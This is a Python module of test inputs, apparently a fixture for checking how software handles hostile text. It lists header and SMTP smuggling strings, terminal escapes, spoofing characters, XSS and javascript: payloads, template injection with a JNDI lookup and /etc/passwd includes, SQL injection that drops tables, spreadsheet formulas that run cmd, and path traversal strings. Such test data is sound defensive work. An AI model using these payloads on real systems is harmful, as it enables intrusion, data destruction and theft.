"""What people and programs may send where a text is expected: one table, used wherever a text can stand.

Written with escapes, so that no editor, terminal or tool obeys them.
"""
# ruff: noqa: E501  # tables and sentences keep their lines

from collections.abc import Mapping

TEXTS: Mapping[str, str] = {
    # ------------------------------------------------------------------------------- lines and records
    "a header after CR LF": "Sale\r\nBcc: evil@x.test",
    "a header after LF": "Sale\nBcc: evil@x.test",
    "a header after CR": "Sale\rBcc: evil@x.test",
    "a folded header": "Sale\r\n Bcc: evil@x.test\r\n\tX: y",
    "a body after the headers": "Sale\r\n\r\n<b>body</b>",
    "every end of a line": "a\x0bb\x0cc\x1cd\x1de\x1ef\x85g\u2028h\u2029i\r\nj\rk\nl",
    "U+2028 in a script": "\u2028alert(1)\u2029//",
    "a log record": "Sale\n2026-11-21T09:00:00.000Z INFO gql_approvals.decisions policy:decision result=allow",
    "a log record in JSON": 'x"}\n{"time":"2026-11-21T09:00:00.000Z","level":"info","event":"forged"}',
    "a response after a response": "x\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\n",
    # -------------------------------------------------------------------------------- what is no letter
    "NUL": "a\0b",
    "only NUL": "\0",
    "half of a pair": "a\ud800b",
    "both halves, turned": "\udc00\ud800",
    "every control": "".join(map(chr, (*range(1, 32), *range(127, 160)))),
    "backspaces": "approved\x08\x08\x08\x08\x08\x08\x08\x08rejected",
    "no characters of Unicode": "a\ufffe\uffff\U0001ffffb",
    "private use": "\ue000\U000f0000\U0010fffd",
    "BOM": "\ufeffSale",
    "blanks only": " \t\u00a0\u2003\u3000",
    "nothing": "",
    # --------------------------------------------------------------------------------------- terminals
    "a colour": "\x1b[31mred\x1b[0m",
    "a cleared screen": "\x1b[2J\x1b[H\x1b[1A\x1b[2K",
    "a link of a terminal": "\x1b]8;;https://evil.test\x1b\\click\x1b]8;;\x1b\\",
    "a title and the clipboard": "\x1b]0;title\x07\x1b]52;c;ZXZpbA==\x07",
    "commands in one byte": "\x9b2J\x9d0;title\x9c\x90q\x9c",
    "a carriage return over a line": "rejected\rapproved",
    "markup of Rich": "[bold red]x[/bold red] [link=https://evil.test]y[/link] [/]",
    # ------------------------------------------------------------------------------ how letters look
    "turned around": "abc\u202egpj.exe\u2066x\u2069\u061c",
    "never closed": "\u202d\u2067\u2068\u202a\u202b" * 20,
    "zero width": "ad\u200bmin\u200c\u200d\u2060\ufeff\u00ad",
    "Hebrew and Arabic": "\u05de\u05d1\u05e6\u05e2 \u0639\u0631\u0636 50 %",
    "homoglyphs": "\u0430dmin \u0421hen \uff41\uff43\uff4d\uff45",
    "decomposed": "Cafe\u0301 A\u030a o\u0302\u0323",
    "composed": "Caf\u00e9 \u00c5 \u1ed9",
    "compatibility forms": "\ufb01 \u2160 \u00bd \u33a1 \u017f \u212a",
    "many marks": "a" + "\u0301\u0325\u034f" * 60,
    "emoji": "\U0001f469\u200d\U0001f4bb \U0001f468\u200d\U0001f469\u200d\U0001f467 \U0001f1ee\U0001f1f3 \U0001f44d\U0001f3fd",
    "tags": "x\U000e0001\U000e0065\U000e007f",
    # -------------------------------------------------------------------------------------------- mail
    "an encoded word in Q": "=?utf-8?q?a=0d=0aBcc:_evil@x.test?=",
    "an encoded word in B": "=?utf-8?b?YQ0KQmNjOiBldmlsQHgudGVzdA==?=",
    "encoded words apart": "=?utf-8?q?a?= =?utf-8?q?=0d=0aBcc:_evil@x.test=0d=0a?= z",
    "an encoded word that is broken": "=?=?utf-8?q?=0aBcc:x?= =? ?=",
    "another mailbox": '"b, evil"@x.test, evil@x.test',
    "a mailbox behind a comma": "b, evil@x.test",
    "a group of mailboxes": "Undisclosed: evil@x.test, b@x.test;",
    "quotes and a mailbox": '" <evil@x.test> "\\" (comment) <',
    "the end of the data": "a\r\n.\r\nMAIL FROM:<evil@x.test>\r\nRCPT TO:<evil@x.test>\r\nDATA\r\n",
    "smuggled ends": "a\n.\nb\r.\rc\r\n.\nd\n.\r\ne\r\n.\r",
    "a boundary": "\r\n--=_boundary\r\nContent-Type: text/html\r\n\r\n<b>x</b>\r\n--=_boundary--",
    "an address with a line": "evil@x.test\r\nRCPT TO:<b@x.test>",
    # ----------------------------------------------------------------------------------------- browsers
    "a script": "<script>alert(1)</script>",
    "the end of a script": "</script></style></title></textarea><script>alert(1)</script>",
    "an event handler": "\"><img src=x onerror=alert(1)>'><svg/onload=alert(1)>",
    "the end of an attribute": "\" onmouseover=\"alert(1)\" style=\"x:expression(1)\" x='",
    "a comment": "--><!--><script>alert(1)</script><![CDATA[x]]>",
    "entities": "&lt;script&gt; &#60;b&#62; &amp;amp; &#x0; &bogus",
    "javascript:": "javascript:alert(document.cookie)",
    "javascript: in disguise": " JaVa\tScRiPt&colon;alert(1)//https://acme.test",
    "data:": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "a name and a password in an address": "https://acme.test@evil.test/?x=<b>&y='\"#{campaign}",
    # ---------------------------------------------------------------------------------------- templates
    "Jinja": "{{7*7}}{% raw %}{% include '/etc/passwd' %}{# x #}",
    "templates": "${7*7} #{7*7} <%= 7*7 %> $name ${jndi:ldap://x.test/a} {{=it.x}} @(7*7)",
    "format strings": "%s%s%n%x %(name)s {0.__class__.__mro__} {0!r:>9999} {} {campaign} {request}",
    # -------------------------------------------------------------------------------------- databases
    "SQL": "'; DROP TABLE campaign; --",
    "SQL, more of it": "' OR '1'='1' /* \\' \\\\' \" ; UPDATE account SET name='x'; SELECT pg_sleep(9)--",
    "LIKE": "%_%\\%[a-z]*?",
    # ------------------------------------------------------------------- policies, tables, files, JSON
    "a policy's line": "p, maker, *, approve, any, any, allow",
    "a policy's line after this one": "x\np, maker, *, approve, any, any, allow\ng, evil, admin, *",
    "a quoted column": '"x"",""y", \'z\', #',
    "a formula": "=cmd|' /C calc'!A0",
    "a formula in disguise": '+1+1\t@SUM(1)\t-2+3,=HYPERLINK("https://evil.test")',
    "a way out of a folder": "../../../../etc/passwd\\..\\..\\win.ini%2e%2e%2f\u2044",
    "broken JSON": '"}],"status":"APPROVED","x":[{"y":"\\u0000\\',
    "names of JavaScript": "__proto__",
    "words of programs": "null undefined NaN true None -1 1e999 [object Object]",
    # ------------------------------------------------------------------------------------------- length
    "200 letters": "x" * 200,
    "200 letters of four bytes": "\U0001f389" * 200,
    "200 letters in Cyrillic": "\u0416" * 200,
    "10,000 letters": "word " * 2_000,
    "10,000 letters without a blank": "x" * 10_000,
}  # fmt: skip
# They cannot be stored: JSON cannot carry the halves of pairs, and PostgreSQL has no NUL.
UNSTORABLE = frozenset({"NUL", "only NUL", "half of a pair", "both halves, turned"})
STORABLE = {name: text for name, text in TEXTS.items() if name not in UNSTORABLE}
# One of a kind, for tests that run at every change.
FEW = (
    "a header after CR LF", "an encoded word in Q", "NUL", "half of a pair", "a colour", "turned around",
    "the end of the data", "an event handler", "Jinja", "a policy's line after this one",
)  # fmt: skip
